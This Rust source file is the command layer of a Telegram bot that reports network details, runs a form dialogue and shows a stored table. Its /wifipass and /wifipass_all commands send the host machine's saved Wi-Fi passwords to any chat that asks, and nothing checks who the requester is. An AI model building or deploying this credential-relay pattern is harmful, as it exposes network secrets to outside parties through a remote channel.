//! Telegram command surface — maps inbound messages to the aggregator and
//! dialogue engine and renders replies.
//!
//! The surface is deliberately thin: command routing plus reply delivery.
//! All decisions live in [`crate::net`], [`crate::dialogue`] and
//! [`crate::store`]; blocking work (OS probes, file IO) runs on the
//! blocking thread pool.

pub mod render;

use std::sync::Arc;

use teloxide::prelude::*;
use teloxide::types::{ChatId, ParseMode};
use teloxide::utils::command::{BotCommands, ParseError};
use tracing::{debug, info, warn};

use crate::config::Config;
use crate::dialogue::{DialogueEngine, SessionMap};
use crate::error::AppError;
use crate::net::{Aggregator, OsProbe};
use crate::store::RecordStore;

/// Telegram has a 4096 character limit per message; chunk at 4000 to be safe.
const MAX_MESSAGE_LENGTH: usize = 4000;

/// Everything the handlers share. One instance per process.
pub struct AppState {
    pub aggregator: Aggregator<OsProbe>,
    pub engine: DialogueEngine,
    pub sessions: SessionMap,
}

impl AppState {
    pub fn new(config: &Config) -> Self {
        Self {
            aggregator: Aggregator::new(OsProbe::new(config.probe.timeout)),
            engine: DialogueEngine::new(RecordStore::new(config.table_path())),
            sessions: SessionMap::new(),
        }
    }
}

/// Bot commands. `/skip` and `/cancel` are plain commands rather than
/// dialogue-only inputs, matching how users actually type them.
#[derive(BotCommands, Clone, Debug, PartialEq)]
#[command(rename_rule = "lowercase")]
pub enum Command {
    Start,
    Network,
    Wifiprofiles,
    #[command(parse_with = rest_of_line)]
    Wifipass(String),
    #[command(rename = "wifipass_all")]
    WifipassAll,
    Fill,
    Skip,
    Cancel,
    Showtable,
}

/// Keep the whole argument tail as one value — profile names contain spaces.
fn rest_of_line(input: String) -> Result<(String,), ParseError> {
    Ok((input.trim().to_string(),))
}

/// Run the Telegram dispatcher until shutdown (Ctrl-C).
pub async fn run(bot: Bot, state: Arc<AppState>) -> Result<(), AppError> {
    let me = bot
        .get_me()
        .await
        .map_err(|e| AppError::Transport(format!("cannot reach Telegram: {e}")))?;
    let username = me.username().to_string();
    info!(bot = %username, "telegram dispatcher starting");

    let handler = Update::filter_message().endpoint(move |bot: Bot, msg: Message| {
        let state = state.clone();
        let username = username.clone();
        async move {
            if let Some(text) = msg.text() {
                debug!(chat_id = msg.chat.id.0, "message received");
                if let Some(reply) = dispatch(&state, &username, msg.chat.id.0, text).await {
                    send_chunked(&bot, msg.chat.id, &reply).await;
                }
            }
            respond(())
        }
    });

    Dispatcher::builder(bot, handler)
        .enable_ctrlc_handler()
        .build()
        .dispatch()
        .await;

    info!("telegram dispatcher stopped");
    Ok(())
}

/// Transport-independent message entry point. Public so integration tests
/// can drive the full surface without a live Telegram connection.
///
/// `None` means no reply is warranted: unknown commands and free text
/// outside an active dialogue are ignored.
pub async fn dispatch(state: &Arc<AppState>, username: &str, chat: i64, text: &str) -> Option<String> {
    match Command::parse(text, username) {
        Ok(cmd) => Some(handle_command(state, chat, cmd).await),
        Err(_) if text.trim_start().starts_with('/') => {
            debug!(chat_id = chat, "ignoring unknown command");
            None
        }
        Err(_) => handle_dialogue_text(state, chat, text).await,
    }
}

async fn handle_command(state: &Arc<AppState>, chat: i64, cmd: Command) -> String {
    match cmd {
        Command::Start => render::help_text(),

        Command::Network => {
            info!(chat_id = chat, "/network requested");
            let st = state.clone();
            match tokio::task::spawn_blocking(move || st.aggregator.build_report()).await {
                Ok(report) => render::render_report(&report),
                Err(e) => {
                    warn!("network report task failed: {e}");
                    render::internal_error()
                }
            }
        }

        Command::Wifiprofiles => {
            info!(chat_id = chat, "/wifiprofiles requested");
            let st = state.clone();
            match tokio::task::spawn_blocking(move || st.aggregator.list_wifi_profiles()).await {
                Ok(profiles) => render::render_profiles(&profiles),
                Err(e) => {
                    warn!("profile listing task failed: {e}");
                    render::internal_error()
                }
            }
        }

        Command::Wifipass(profile) => {
            if profile.is_empty() {
                return render::wifipass_usage();
            }
            info!(chat_id = chat, %profile, "/wifipass requested");
            let st = state.clone();
            let name = profile.clone();
            match tokio::task::spawn_blocking(move || st.aggregator.wifi_password(&name)).await {
                Ok(password) => render::render_password(&profile, password.as_deref()),
                Err(e) => {
                    warn!("password lookup task failed: {e}");
                    render::internal_error()
                }
            }
        }

        Command::WifipassAll => {
            info!(chat_id = chat, "/wifipass_all requested");
            let st = state.clone();
            match tokio::task::spawn_blocking(move || st.aggregator.all_profile_passwords()).await {
                Ok(pairs) => render::render_all_passwords(&pairs),
                Err(e) => {
                    warn!("password sweep task failed: {e}");
                    render::internal_error()
                }
            }
        }

        Command::Fill => {
            info!(chat_id = chat, "/fill started");
            state.sessions.insert_new(chat);
            render::fill_intro()
        }

        Command::Skip => {
            let st = state.clone();
            let outcome = tokio::task::spawn_blocking(move || {
                st.sessions.with(chat, |s| st.engine.handle_skip(s))
            })
            .await;
            match outcome {
                Ok(Some(Ok(next))) => render::skipped(next),
                Ok(Some(Err(e))) => {
                    warn!(chat_id = chat, "record save failed on skip: {e}");
                    render::storage_failure()
                }
                Ok(None) => render::no_active_fill(),
                Err(e) => {
                    warn!("skip task failed: {e}");
                    render::internal_error()
                }
            }
        }

        Command::Cancel => {
            info!(chat_id = chat, "/cancel");
            match state.sessions.with(chat, |s| state.engine.cancel(s)) {
                Some(st) => render::dialogue_prompt(st).to_string(),
                None => render::no_active_fill(),
            }
        }

        Command::Showtable => {
            info!(chat_id = chat, "/showtable requested");
            let st = state.clone();
            match tokio::task::spawn_blocking(move || st.engine.store().load_all()).await {
                Ok(Ok(rows)) => render::render_table(&rows),
                Ok(Err(e)) => {
                    warn!("table read failed: {e}");
                    render::table_read_failure()
                }
                Err(e) => {
                    warn!("table read task failed: {e}");
                    render::internal_error()
                }
            }
        }
    }
}

async fn handle_dialogue_text(state: &Arc<AppState>, chat: i64, text: &str) -> Option<String> {
    let st = state.clone();
    let input = text.to_string();
    let outcome = tokio::task::spawn_blocking(move || {
        st.sessions.with(chat, |s| st.engine.handle_input(s, &input))
    })
    .await;
    match outcome {
        Ok(Some(Ok(next))) => Some(render::dialogue_prompt(next).to_string()),
        Ok(Some(Err(e))) => {
            warn!(chat_id = chat, "record save failed: {e}");
            Some(render::storage_failure())
        }
        // Free text outside a dialogue carries no meaning for this bot.
        Ok(None) => None,
        Err(e) => {
            warn!("dialogue task failed: {e}");
            Some(render::internal_error())
        }
    }
}

/// Send `text` in 4000-char chunks to stay under Telegram's limit.
async fn send_chunked(bot: &Bot, chat: ChatId, text: &str) {
    let chars: Vec<char> = text.chars().collect();
    for chunk in chars.chunks(MAX_MESSAGE_LENGTH) {
        let chunk_str: String = chunk.iter().collect();
        if let Err(e) = bot
            .send_message(chat, chunk_str)
            .parse_mode(ParseMode::Html)
            .await
        {
            warn!("failed to send reply: {e}");
        }
    }
}
